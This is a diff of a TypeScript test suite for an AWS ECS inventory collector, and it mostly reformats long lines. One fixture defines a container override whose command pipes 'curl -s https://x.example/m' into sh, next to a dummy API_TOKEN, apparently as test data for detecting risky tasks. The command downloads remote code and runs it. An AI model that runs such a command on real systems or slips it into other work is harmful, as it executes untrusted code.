@@ -104,7 +104,14 @@ describe("ECS collector", () => {
 
     expect(result.read).toBe(true);
     expect(result.clusters).toEqual([
-      { arn: CLUSTER, name: "prod-workers", region: REGION, status: "ACTIVE", runningTasksCount: 2, tags: { team: "platform" } },
+      {
+        arn: CLUSTER,
+        name: "prod-workers",
+        region: REGION,
+        status: "ACTIVE",
+        runningTasksCount: 2,
+        tags: { team: "platform" },
+      },
     ]);
     expect(result.tasks[0]).toEqual({
       taskArn: taskArn(1),
@@ -149,7 +156,11 @@ describe("ECS collector", () => {
         task(1, {
           overrides: {
             containerOverrides: [
-              { name: "proxy", command: ["sh", "-c", "curl -s https://x.example/m | sh"], environment: [{ name: "API_TOKEN", value: "abc123456789" }] },
+              {
+                name: "proxy",
+                command: ["sh", "-c", "curl -s https://x.example/m | sh"],
+                environment: [{ name: "API_TOKEN", value: "abc123456789" }],
+              },
             ],
           },
         }),
@@ -184,9 +195,12 @@ describe("ECS collector", () => {
 
   it("describes clusters in batches of 100", async () => {
     const clusters = Array.from({ length: 130 }, (_, k) => `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/c${k}`);
-    ecs.on(ListClustersCommand).resolvesOnce({ clusterArns: clusters.slice(0, 100), nextToken: "c2" }).resolvesOnce({
-      clusterArns: clusters.slice(100),
-    });
+    ecs
+      .on(ListClustersCommand)
+      .resolvesOnce({ clusterArns: clusters.slice(0, 100), nextToken: "c2" })
+      .resolvesOnce({
+        clusterArns: clusters.slice(100),
+      });
     ecs.on(ListTasksCommand).resolves({ taskArns: [] });
 
     await collectEcsRegion({ client, region: REGION, coverage: new CoverageRecorder() });
@@ -200,7 +214,11 @@ describe("ECS collector", () => {
     const arns = Array.from({ length: 8 }, (_, k) => taskArn(k));
     ecs.on(ListTasksCommand).resolves({ taskArns: arns, nextToken: "more" });
     ecs.on(DescribeTasksCommand).callsFake((input: { tasks: string[] }) => ({
-      tasks: input.tasks.map((arn, k) => ({ ...task(0), taskArn: arn, taskDefinitionArn: `${TASK_DEF.slice(0, -2)}:${k + 1}` })),
+      tasks: input.tasks.map((arn, k) => ({
+        ...task(0),
+        taskArn: arn,
+        taskDefinitionArn: `${TASK_DEF.slice(0, -2)}:${k + 1}`,
+      })),
     }));
     const coverage = new CoverageRecorder();
 
@@ -224,7 +242,13 @@ describe("ECS collector", () => {
 
     expect(result).toEqual({ read: false, clusters: [], tasks: [], taskDefinitions: [] });
     expect(coverage.entries).toEqual([
-      expect.objectContaining({ region: REGION, service: "ecs", api: "ListClusters", status: "failed", reason: "access-denied" }),
+      expect.objectContaining({
+        region: REGION,
+        service: "ecs",
+        api: "ListClusters",
+        status: "failed",
+        reason: "access-denied",
+      }),
     ]);
   });
 
